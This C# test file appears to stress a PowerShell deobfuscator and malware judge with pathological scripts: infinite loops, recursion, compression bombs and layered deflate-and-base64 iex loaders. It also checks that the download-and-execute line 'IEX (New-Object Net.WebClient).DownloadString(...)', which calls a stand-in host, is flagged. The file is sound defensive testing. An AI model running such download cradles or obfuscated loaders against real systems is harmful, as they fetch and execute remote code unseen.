using System.IO.Compression;
using System.Text;
using Afterpatch.Scripts.PowerShell;
using Afterpatch.Testing;
using Xunit;

namespace Afterpatch.Scripts.Tests.PowerShell;

/// <summary>Whatever is put in, an answer comes out, and a bound that was reached is named.</summary>
public sealed class HostileScriptTests
{
    public static TheoryData<string> Scripts { get; } =
    [
        new string('(', 8_000) + "1" + new string(')', 8_000),
        string.Join('+', Enumerable.Repeat("'a'", 20_000)),
        string.Concat(Enumerable.Repeat("{@($(", 2_000)),
        "iex ('a'*1e9); $x='a'*999999999; iex $x",
        "iex \"abc ' @\" $( { ( [",
        "while($true){$x+='a'}; for(;;){ $y++ }; iex $x",
        "$a=1..1000; " + string.Concat(Enumerable.Repeat("$a=$a+$a;", 60)) + "iex $a",
        "$a='a'*10000; $b=$a -replace 'a',('b'*10000); iex $b; iex ($a -replace '(a+)+$','x')",
        "function f($n){ f ($n+1) }; iex (f 1)",
        "$s='iex $s'; iex $s",
        "function g { iex 'g;g' }; g",
        "iex ('{0,1000000000}' -f 'a'); iex ('{0}'*100000 -f ('a'*100000))",
        "iex (-join (1..2000000000|%{[char]$_}))",
        string.Concat(Enumerable.Repeat("if(1){", 1_500)),
        "\"" + string.Concat(Enumerable.Repeat("$(", 5_000)),
        new string('\0', 10_000),
        "cmd /c \"for /L %a in (1,1,2000000000) do for /L %b in (1,1,2000000000) do set x=!x!!x!aa&&call %x%\"",
        "$a='Get-';" + string.Concat(Enumerable.Repeat("$a+='x';", 10_000)) + "iex ('Get-'+'Date');" + string.Concat(Enumerable.Repeat("$b=$a+'q';iex ($b+'r');", 50)),
        string.Concat(Enumerable.Range(0, 5_000).Select(i => $"$v{i + 1}=$v{i}+'b';")) + "iex ('Write-'+'Host $v5000')",
        "",
    ];

    [Fact]
    public void Sums_in_sums_are_visited_once() =>
        Assert.NotNull(Deobfuscator.Judge("$x = " + string.Concat(Enumerable.Repeat("$a + ($b + ", 40)) + "1" + new string(')', 40)).Text);

    [Theory]
    [MemberData(nameof(Scripts))]
    public async Task Any_script_ends_in_an_answer(string script) => Assert.InRange((await Ended(script)).Text.Length, 0, LongestValue + script.Length);

    private const int LongestValue = 16 << 20;

    /// <summary>Without an answer after this long there will be none: a hang is a failure here and does not hold the whole run up.</summary>
    private static Task<ScriptJudgement> Ended(string script) => Task.Run(() => Deobfuscator.Judge(script)).WaitAsync(TimeSpan.FromMinutes(3));

    [Theory]
    [InlineData("{\"a\": [1,2,3], \"b\": {\"c\": \"d\"}},\n")]
    [InlineData("<div class=\"a\"><p>Hello, <b>world</b> & more</p></div>\n")]
    [InlineData("x).Value)))\n")]
    [InlineData("if ( | } else ) foreach in { ,\n")]
    public void What_is_no_script_at_all_is_given_up_early(string line)
    {
        var text = string.Concat(Enumerable.Repeat(line, 20_000));
        Assert.Contains(Deobfuscator.Judge(text).Bounds, bound => bound.Contains("errors of syntax", StringComparison.Ordinal));
        Assert.True(Deobfuscator.Judge("IEX (New-Object Net.WebClient).DownloadString('http://a.example/b')\n" + text).Malicious);
    }

    [Theory]
    [InlineData("for (;;) {}")]
    [InlineData("for (;;) {")]
    [InlineData("while ($true) {}")]
    [InlineData("while (1) { while (1) {} }")]
    [InlineData("do {} while (1)")]
    [InlineData("do {} until (0)")]
    [InlineData("for (;;) { switch (1) { 2 {} } }")]
    [InlineData("for (;;) { foreach ($i in 1) {} }")]
    [InlineData("for (;;) { function f {} }")]
    [InlineData("for (;;) { if (0) {} }")]
    [InlineData("for (;;) { & {} }")]
    [InlineData("for (;;) { continue }")]
    [InlineData("function f { f } f")]
    [InlineData("for (;;) { try {} catch {} finally {} }")]
    [InlineData("Add-Type 'public class A { public static int B() { for (;;) ; } public static int C() { while (true) { } } }'; [A]::B(); [A]::C()")]
    [InlineData("function f($n) { if ($n -gt 100000) { return '' }; 'a' + (f ($n+1)) }; f 0")]
    [InlineData("function f($n) { (f ($n+1)) + (f ($n+2)) }; f 0")]
    [InlineData("function f($n) { & { & { f ($n+1) } } }; f 0")]
    [InlineData("function f($n) { if (((((((((((((((((((((f ($n+1)))))))))))))))))))))) { foreach ($x in 1) { try { switch (1) { 1 { f ($n+1) } } } catch {} } } }; f 0")]
    [InlineData("function f($n) { $s = 'x' * 20000; 1..3 | % { f ($n+1) } }; f 0")]
    public async Task Loops_that_do_nothing_for_ever_end(string script) => Assert.False((await Ended(script)).Malicious);

    [Fact]
    public void A_bound_that_was_reached_is_named()
    {
        Assert.NotEmpty(Deobfuscator.Judge("iex ('a'*1e9)").Bounds);
        Assert.NotEmpty(Deobfuscator.Judge(new string('(', 8_000)).Bounds);
    }

    /// <summary>A function that calls itself from several branches on what is not known: ordinary modules do that.</summary>
    [Fact]
    public void Recursions_on_the_unknown_do_not_multiply()
    {
        var script = "function f($x, $n) { " + string.Concat(Enumerable.Range(0, 8).Select(i => $"if ($x.p{i}) {{ $y{i} = f $x.p{i} ($n - 1) }} ")) + " $y0 }\nf $args 5";
        Assert.Empty(Deobfuscator.Judge(script).Bounds);
    }

    [Fact]
    public void A_script_of_many_megabytes_on_one_line_names_its_bound() =>
        Assert.Contains(Deobfuscator.Judge(new string('a', 30 << 20)).Bounds, bound => bound.Contains("characters", StringComparison.Ordinal));

    /// <summary>The real size: what is beyond the first megabytes is not even decoded.</summary>
    [Theory]
    [InlineData("", "$a='b'+$c;")]
    [InlineData("iex '", "a")]
    [InlineData("@echo off & ", "set a=%b%&")]
    [InlineData("@echo off & set a=", "x")]
    public void A_hundred_megabytes_on_one_line_name_their_bound(string head, string part)
    {
        var script = new byte[100_000_000];
        Encoding.ASCII.GetBytes(head, script);
        var rest = script.AsSpan(head.Length);
        for (var at = 0; at + part.Length <= rest.Length; at += part.Length)
            Encoding.ASCII.GetBytes(part, rest[at..]);
        Assert.Contains(Deobfuscator.Judge(script).Bounds, bound => bound.Contains("only the first", StringComparison.Ordinal));
    }

    [Fact]
    public void Layers_without_end_stop_at_a_bound()
    {
        var script = "Get-Date";
        for (var i = 0; i < 70; i++)
            script = Deflated(script);
        var judgement = Deobfuscator.Judge(script);
        Assert.True(judgement.Layers >= 50);
        Assert.NotEmpty(judgement.Bounds);
    }

    [Fact]
    public void A_compressed_bomb_is_cut()
    {
        var judgement = Deobfuscator.Judge(Deflated(new string('A', 64 << 20)));
        Assert.Contains(judgement.Bounds, bound => bound.Contains("compressed", StringComparison.Ordinal));
    }

    [Fact]
    public void Damaged_scripts_end_in_an_answer()
    {
        var script = Encoding.UTF8.GetBytes("$a='Get-'+'Date'; & ($env:ComSpec[4,15,25]-join'') $a; " + Deflated("Write-Host 1")
            + "; foreach($c in 1,2){ $s += [char]($c -bxor 3) }; function f($x){ return \"$x{0}\" -f $x }; f 'a' | % { $_ }");
        foreach (var edited in Damage.AnyEdits(script, 150, 7))
            Assert.NotNull(Deobfuscator.Judge(edited).Text);
        foreach (var cut in Damage.EveryCut(script, 150))
            Assert.NotNull(Deobfuscator.Judge(script.AsSpan(0, cut)).Text);
    }

    [Theory]
    [InlineData("utf-8")]
    [InlineData("utf-16")]
    [InlineData("utf-16BE")]
    [InlineData("utf-32")]
    public void Every_encoding_is_read(string name)
    {
        var encoding = Encoding.GetEncoding(name);
        byte[] marked = [.. encoding.GetPreamble(), .. encoding.GetBytes("iex 'Get-Date'")];
        Assert.Equal("Get-Date", Deobfuscator.Judge(marked).Text);
    }

    [Fact]
    public void Sixteen_bit_text_without_a_mark_is_read() => Assert.Equal("Get-Date", Deobfuscator.Judge(Encoding.Unicode.GetBytes("iex 'Get-Date'")).Text);

    private static string Deflated(string script)
    {
        var packed = new MemoryStream();
        using (var deflate = new DeflateStream(packed, CompressionLevel.SmallestSize, leaveOpen: true))
            deflate.Write(Encoding.ASCII.GetBytes(script));
        return $"iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{Convert.ToBase64String(packed.ToArray())}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()";
    }
}
